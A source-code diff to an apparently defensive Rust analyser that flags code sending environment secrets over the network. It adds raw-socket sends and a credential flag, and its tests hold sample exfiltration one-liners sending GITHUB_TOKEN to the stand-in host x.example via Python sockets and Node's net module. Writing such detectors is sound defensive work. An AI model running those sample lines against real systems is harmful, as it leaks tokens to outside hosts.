@@ -66,7 +66,8 @@ const MODELS: &[Model] = &[
         iterated: r"\bfor\s+\w+\s*,\s*(\w+)\s+in\s+os\.environb?\s*\.\s*items\s*\(\s*\)|\bfor\s+(\w+)\s+in\s+os\.environb?\s*\.\s*values\s*\(\s*\)",
         destructured: r"\z.",
         printers: r"\b(?:print|pprint\.pprint|pprint|pp|sys\.stdout\.write|sys\.stderr\.write)\s*\(",
-        senders: r"\b(?:requests|httpx|session|client|http|urllib3|pool|aiohttp)\s*\.\s*(?:post|put|patch|get|delete|request|stream|urlopen)\s*\(|\b(?:urlopen|Request)\s*\(|\.\s*(?:request|putrequest)\s*\(",
+        // A socket's `send` too: `socket.create_connection((host, 80)).send(…)`.
+        senders: r"\b(?:requests|httpx|session|client|http|urllib3|pool|aiohttp)\s*\.\s*(?:post|put|patch|get|delete|request|stream|urlopen)\s*\(|\b(?:urlopen|Request)\s*\(|\.\s*(?:request|putrequest|sendall|sendto|send)\s*\(",
         // `[*os.environ]` unpacks the names; `{**os.environ}` and `f(**os.environ)` the values.
         names_only: r"(?:\bin|\b(?:list|sorted|set|tuple|frozenset|enumerate)\s*\(|(?:\A|[^*])\*)\s*\z",
         no_value_before: r"(?:\b(?:len|bool|hash|any|all|callable|type)\s*\(|\bnot\s+)\s*\z",
@@ -84,7 +85,7 @@ const MODELS: &[Model] = &[
         iterated: r"\[\s*\w+\s*,\s*(\w+)\s*\]\s*of\s+Object\.entries\s*\(\s*(?:process|Bun)\.env\s*\)|\bObject\.entries\s*\(\s*(?:process|Bun)\.env\s*\)\s*\.\s*(?:forEach|map|filter|flatMap)\s*\(\s*(?:function\s*)?\(\s*\[\s*\w+\s*,\s*(\w+)\s*\]",
         destructured: r"\b(?:const|let|var)\s*\{([^}]*)\}\s*=\s*(?:process|Bun)\.env\b",
         printers: r"\b(?:console\.(?:log|info|warn|error|debug|dir|table|trace)|process\.std(?:out|err)\.write)\s*\(",
-        senders: r#"\bfetch\s*\(|(?:\baxios|\brequire\s*\(\s*['"]axios['"]\s*\))(?:\s*\.\s*(?:post|put|patch|get|delete|request))?\s*\(|\bgot(?:\s*\.\s*(?:post|put|patch|get))?\s*\(|\b(?:https?|require\s*\(\s*['"](?:node:)?https?['"]\s*\))\s*\.\s*(?:request|get)\s*\([^;\n]*?\)\s*\.\s*(?:write|end)\s*\(|\b(?:https?|require\s*\(\s*['"](?:node:)?https?['"]\s*\))\s*\.\s*(?:request|get)\s*\(|\b(?:r|\w*req|\w*request)\s*\.\s*(?:write|end)\s*\("#,
+        senders: r#"\bfetch\s*\(|(?:\baxios|\brequire\s*\(\s*['"]axios['"]\s*\))(?:\s*\.\s*(?:post|put|patch|get|delete|request))?\s*\(|\bgot(?:\s*\.\s*(?:post|put|patch|get))?\s*\(|\b(?:https?|require\s*\(\s*['"](?:node:)?https?['"]\s*\))\s*\.\s*(?:request|get)\s*\([^;\n]*?\)\s*\.\s*(?:write|end)\s*\(|\b(?:https?|require\s*\(\s*['"](?:node:)?https?['"]\s*\))\s*\.\s*(?:request|get)\s*\(|\b(?:r|\w*req|\w*request)\s*\.\s*(?:write|end)\s*\(|\b(?:net|tls|require\s*\(\s*['"](?:node:)?(?:net|tls)['"]\s*\))\s*\.\s*(?:connect|createConnection)\s*\([^;\n]*?\)\s*\.\s*(?:write|end)\s*\(|\b(?:s|\w*[sS]ock(?:et)?|\w*[cC]onn(?:ection)?)\s*\.\s*(?:write|end)\s*\("#,
         names_only: r"(?:\bObject\.(?:keys|getOwnPropertyNames)\s*\(|\bin|\bReflect\.ownKeys\s*\()\s*\z",
         no_value_before: r"(?:!|\btypeof|\bBoolean\s*\(|\bin)\s*\z",
         no_value_after: r"\A\s*(?:\.\s*(?:length|startsWith|endsWith|includes)\b|[!=]==?|&&|\?[^?.]|<|>)",
@@ -335,10 +336,14 @@ pub struct Sent {
     pub at: Range<usize>,
     /// The addresses it may go to (`https://host/…`); none when the code writes none.
     pub urls: Vec<String>,
+    /// Whether the variable is the request's own credential (a header, `auth=`, a cookie) rather
+    /// than its data.
+    pub credential: bool,
 }
 
-/// What `code` in `language` sends of the environment as a request's data: a secret in a
-/// header, `auth=` or a cookie is the request's own authentication and is not counted.
+/// What `code` in `language` sends of the environment in a request: as its data, or else a
+/// variable given as the request's own credential (a header, `auth=`, a cookie), which the
+/// checkers judge as a credential.
 pub fn sent(language: Language, code: &str) -> Vec<Sent> {
     let Some(index) = model_reading(language, code) else {
         return Vec::new();
@@ -359,9 +364,19 @@ pub fn sent(language: Language, code: &str) -> Vec<Sent> {
     calls(model, senders, code)
         .into_iter()
         .filter_map(|(call, region)| {
-            let variable = shown_in(model, code, &reads, &tainted, &region, |at| {
+            let data = shown_in(model, code, &reads, &tainted, &region, |at| {
                 !authenticates(code, region.start, at)
-            })?;
+            });
+            let credential = || {
+                shown_in(model, code, &reads, &tainted, &region, |at| {
+                    authenticates(code, region.start, at)
+                })
+                .filter(Option::is_some)
+            };
+            let (variable, credential) = match data {
+                Some(variable) => (variable, false),
+                None => (credential()?, true),
+            };
             let urls = match addresses(code, region.clone()) {
                 urls if urls.is_empty() => everywhere.clone(),
                 urls => urls,
@@ -371,6 +386,7 @@ pub fn sent(language: Language, code: &str) -> Vec<Sent> {
                 variable,
                 at: canonical.original(region.start)..canonical.original(region.end),
                 urls,
+                credential,
             })
         })
         .collect()
@@ -481,14 +497,15 @@ fn authenticates(code: &str, start: usize, at: usize) -> bool {
 }
 
 /// The web addresses written in `region` of `code`: `https://…` literals, and the hosts given
-/// to a connection (`HTTPSConnection('host')`, `hostname: 'host'`).
+/// to a connection (`HTTPSConnection('host')`, `hostname: 'host'`), a socket's too
+/// (`socket.create_connection(('host', 80))`, `net.connect(80, 'host')`).
 fn addresses(code: &str, region: Range<usize>) -> Vec<String> {
     static ADDRESS: CodePattern = CodePattern::new(
-        r#"(https?://[^\s'"`)\]}<>]+)|\b(?:HTTPS?Connection|hostname|host)\s*[(:=]\s*['"]([^'"\s/]+)"#,
+        r#"(https?://[^\s'"`)\]}<>]+)|\b(?:HTTPS?Connection|hostname|host)\s*[(:=]\s*['"]([^'"\s/]+)|\b(?:create_connection|connect(?:_ex)?|createConnection)\s*\(\s*(?:\(\s*|\d+\s*,\s*)['"]([^'"\s/]+)"#,
     );
     ADDRESS
         .captures_iter(&code[region])
-        .filter_map(|found| match (found.get(1), found.get(2)) {
+        .filter_map(|found| match (found.get(1), found.get(2).or(found.get(3))) {
             (Some(url), _) => Some(url.as_str().to_owned()),
             (None, Some(host)) => Some(format!("https://{}/", host.as_str())),
             _ => None,
@@ -992,13 +1009,15 @@ mod tests {
         assert_eq!(awk("BEGIN{print ENVIRON[\"TOKEN\"] > \"out.txt\"}"), None);
     }
 
-    /// What the code sends, as `variable@address` for each address.
+    /// What the code sends, as `variable@address` for each address (`credential variable@…`
+    /// for the request's own credential).
     fn sends(language: Language, code: &str) -> Vec<String> {
         sent(language, code)
             .into_iter()
             .flat_map(|sent| {
                 let variable = sent.variable.unwrap_or_else(|| "env".to_owned());
-                sent.urls.into_iter().map(move |url| format!("{variable}@{url}"))
+                let kind = if sent.credential { "credential " } else { "" };
+                sent.urls.into_iter().map(move |url| format!("{kind}{variable}@{url}"))
             })
             .collect()
     }
@@ -1026,17 +1045,29 @@ mod tests {
             python("import os,requests; requests.post('https://x.example', json=dict(os.environ))"),
             ["env@https://x.example"]
         );
+        assert_eq!(
+            python(
+                "import socket,os; s=socket.create_connection(('x.example',80)); s.send(os.environ['GITHUB_TOKEN'].encode())"
+            ),
+            ["GITHUB_TOKEN@https://x.example/"]
+        );
         let none: [&str; 0] = [];
-        // The request's own credentials.
+        // The request's own credentials, judged as such.
         assert_eq!(
             python(
                 "import os,requests; requests.get('https://x.example', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})"
             ),
-            none
+            ["credential API_TOKEN@https://x.example"]
         );
         assert_eq!(
             python("import os,requests; requests.get('https://x.example', auth=('me', os.environ['API_TOKEN']))"),
-            none
+            ["credential API_TOKEN@https://x.example"]
+        );
+        assert_eq!(
+            python(
+                "import os,httpx; httpx.get('https://x.example', headers={'Authorization': f'Bearer {os.getenv(\"OPENAI_API_KEY\")}'})"
+            ),
+            ["credential OPENAI_API_KEY@https://x.example"]
         );
         // Names of variables, not values; no address written; a variable that is no secret.
         assert_eq!(
@@ -1057,8 +1088,18 @@ mod tests {
             ["NPM_TOKEN@https://x.example"]
         );
         assert_eq!(
+            node("require('net').connect(80, 'x.example').write(process.env.GITHUB_TOKEN)"),
+            ["GITHUB_TOKEN@https://x.example/"]
+        );
+        assert_eq!(
+            node(
+                "const net = require('net'); const sock = net.connect({host: 'x.example', port: 80}); sock.write(process.env.GITHUB_TOKEN)"
+            ),
+            ["GITHUB_TOKEN@https://x.example/"]
+        );
+        assert_eq!(
             node("fetch('https://x.example', {headers: {Authorization: `Bearer ${process.env.NPM_TOKEN}`}})"),
-            none
+            ["credential NPM_TOKEN@https://x.example"]
         );
         assert_eq!(
             sends(
